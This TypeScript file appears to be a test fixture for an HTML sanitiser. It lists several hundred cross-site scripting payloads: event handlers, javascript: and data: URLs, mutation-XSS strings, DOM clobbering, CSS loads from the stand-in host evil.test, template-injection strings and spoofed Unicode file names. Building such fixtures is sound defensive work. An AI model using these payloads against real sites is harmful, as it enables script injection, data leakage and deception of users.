/**
 * Ways to make markup run, written for this test by the class of trick: plain elements with handlers, addresses that
 * run, broken and nested markup that a serialiser would mend into something else ("mutation"), foreign content,
 * clobbering of the names that scripts look for, templates, and what other languages of templates would read.
 */
const run = 'alert(1)';

const handlers = [
  ...[
    'img src=x onerror',
    'svg onload',
    'body onload',
    'video src=x onerror',
    'audio src=x onerror',
    'details open ontoggle',
  ],
  ...[
    'input autofocus onfocus',
    'select autofocus onfocus',
    'textarea autofocus onfocus',
    'marquee onstart',
    'iframe onload',
  ],
  ...[
    'a href=x onmouseover',
    'div onpointerenter',
    'style onload',
    'link rel=stylesheet href=x onerror',
    'script src=x onerror',
  ],
  ...['object data=x onerror', 'embed src=x onload', 'image src=x onerror', 'isindex type=image src=x onerror'],
].map((element) => `<${element}=${run}>`);

const addresses = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java\nscript:',
    '\u0001javascript:',
    '&#106;avascript:',
    'vbscript:',
  ],
  ...['data:text/html,<script>alert(1)</script>//', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==//'],
  ...['blob:https://evil.test/', 'https://user:word@evil.test/', '//evil.test/', 'javascript&colon;', 'x-javascript:'],
].flatMap((scheme) => [
  `<a href="${scheme}${run}" id=link>go</a>`,
  `<form action="${scheme}${run}"><button>go</button></form>`,
  `<iframe src="${scheme}${run}"></iframe>`,
  `<img src="${scheme}${run}" alt="picture">`,
  `${scheme}${run}`,
]);

const mutations = [
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
  `<svg><foreignObject><body><p><style><!--</style><img src=x onerror=${run}>--></style>`,
  `<table><td><svg><style><img src=x onerror=${run}></style></svg></table>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<noembed><img src="</noembed><iframe onload=${run}>"></noembed>`,
  `<textarea><img title="</textarea><img src=x onerror=${run}>">`,
  `<title><a title="</title><img src=x onerror=${run}>">`,
  `<select><iframe></select><img src=x onerror=${run}>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--!><img src=x onerror=${run}>--!>`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${run}>`,
  `<a/href="javascript:${run}">x`,
  `<img/src='x'onerror=${run}//`,
  `<img src="x" onerror\u000b="${run}">`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<svg><script>alert&lpar;1&rpar;</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><rect width=99 height=99 /></a>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${run}>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${run}'/>#x" />`,
  `<template><img src=x onerror=${run}></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
];

const clobbering = [
  '<form id=document><input name=getElementById></form>',
  '<img name=cookie><img name=body><a id=customElements></a><a id=CABINET href="//evil.test/x">x</a>',
  '<form><input name=attributes><input name=parentNode><input name=nodeName><input name=remove>',
  '<iframe name=self srcdoc="<a id=test href=//evil.test></a>"></iframe>',
  `<slot name=x></slot><cabinet-ticket-file></cabinet-ticket-file><cabinet-provider backend-url="//evil.test"></cabinet-provider>`,
];

/** What sanitisers have tripped over since: integration points, depth, comments and raw text that a second parser reads anew. */
const reparsed = [
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<math><annotation-xml><foreignObject><style><!--</style><img src=x onerror=${run}>-->`,
  `<svg><annotation-xml><foreignObject><style><!--</style><p id="--><img src=x onerror=${run}>">`,
  `<math><mtext><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${run}>">`,
  `<math><mtext><malignmark><style><!--</style><img src=x onerror=${run}>-->`,
  `<svg><desc><noscript><img title="</noscript><img src=x onerror=${run}>"></desc></svg>`,
  `<svg><title><style><!--</title><img src=x onerror=${run}>--></style></title></svg>`,
  `<form><div></form><form id=x></div><math><style></form><img src=x onerror=${run}>`,
  `<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=${run}>">`,
  `${'<div>'.repeat(600)}<svg><style><a id="</style><img src=x onerror=${run}>">`,
  `<option><style></option></select><b><img src=x onerror=${run}></style></option>`,
  `<select><template><style><!--</template><a rel="--></style></select><img src=x onerror=${run}>">`,
  `<selectedcontent><img src=x onerror=${run}></selectedcontent>`,
  `<plaintext></plaintext><img src=x onerror=${run}>`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<noframes><p title="</noframes><img src=x onerror=${run}>">`,
  `<a title="&lt;/a&gt;&lt;img src=x onerror=${run}&gt;">x</a>`,
  `<p id="&amp;lt;img src=x onerror=${run}&amp;gt;">&amp;lt;img src=x onerror=${run}&amp;gt;</p>`,
  `<?pi ><img src=x onerror=${run}>?>`,
  `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${run}>">]><x>&y;</x>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${run}&gt;" sandbox="allow-scripts allow-same-origin"></iframe>`,
  `<div is="x-script" slot=body part=base exportparts=base><b onclick=${run} popovertarget=x>x</b></div>`,
  `<button command=show-modal commandfor=x formaction="javascript:${run}">x</button><dialog id=x oncancel=${run}></dialog>`,
  `<input type=hidden popover id=x onbeforetoggle=${run}><button popovertarget=x>x</button>`,
  `<div contenteditable autofocus tabindex=1 onfocus=${run} accesskey=x onblur=${run}>x</div>`,
  `<p style="animation:x 1s" onanimationstart=${run}>x</p><style>@keyframes x{}</style>`,
  `<p style="background:\\75rl(javascript:${run});behavior:url(x);-moz-binding:url(//evil.test/q)">x</p>`,
  `<style>@font-face{font-family:x;src:url(//evil.test/r)}*{font-family:x}[href^="a"]{background:url(//evil.test/s)}</style>`,
  `<style><!--</style><script>${run}</script>--></style>`,
  `<svg><image href="//evil.test/t" /><feImage href="//evil.test/u" /><style>@import "//evil.test/v";</style></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${run}" /><text x=9 y=9>x</text></a></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${run}</handler></svg>`,
  `<math href="javascript:${run}"><maction actiontype="statusline#//evil.test" xlink:href="javascript:${run}">x</maction></math>`,
  `<xss id=x tabindex=1 onfocus=${run}></xss><a href="#x">x</a>`,
];

const others = [
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `'-${run}-'`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `<%= ${run} %>`,
  '<style>@import "https://evil.test/a.css"; * { background: url(https://evil.test/b) }</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.test/c)">over everything</p>',
  '<link rel=prefetch href="https://evil.test/d"><meta http-equiv=refresh content="0;url=https://evil.test/e">',
  '<base href="https://evil.test/"><object data="https://evil.test/f"></object><embed src="https://evil.test/g">',
  '<img src="https://evil.test/h"><picture><source srcset="https://evil.test/i"><img srcset="https://evil.test/j 2x"></picture>',
  '<video poster="https://evil.test/k"><audio src="https://evil.test/l" autoplay></audio><table background="https://evil.test/m">',
  '<a href="https://evil.test/n" ping="https://evil.test/o">ping</a><input type=image src="https://evil.test/p">',
  '?lit$123$ <!--?lit$--> {{lit-0}} <?> $lit$',
  '__proto__',
  'constructor',
  '{author} {text} {count}',
  // What looks like another word, is stacked high, or hides what it ends in.
  'p\u0430yp\u0430l-inv\u043eice.pdf',
  '\uff49nvoice.\uff50df.exe',
  'invoice\u202efdp.exe',
  'invoice.pdf\u2067.exe\u2069',
  'invoice.pdf' + ' '.repeat(60) + '.exe',
  'invoice.pdf\u3164\u2800.exe',
  'Z\u0351\u036b\u0343\u036a\u0302a\u0360\u0334l\u0328\u035cg\u031b\u0353o\u0489\u031d.png',
  '../../..\\\\evil\u2044test\u2215x.png',
  'CON.png',
  '\u{e0069}\u{e006e}\u{e0076}.pdf',
];

export const payloads: readonly string[] = [
  ...handlers,
  ...addresses,
  ...mutations,
  ...reparsed,
  ...clobbering,
  ...others,
];

/** Characters that turn, hide or stack others. */
export const formatCharacters: readonly string[] = [
  ...['\u200e', '\u200f', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'],
  ...[
    '\u061c',
    '\u200b',
    '\u200c',
    '\u200d',
    '\u2060',
    '\ufeff',
    '\u00ad',
    '\u180e',
    '\u0301'.repeat(40),
    '\u0489'.repeat(40),
  ],
];
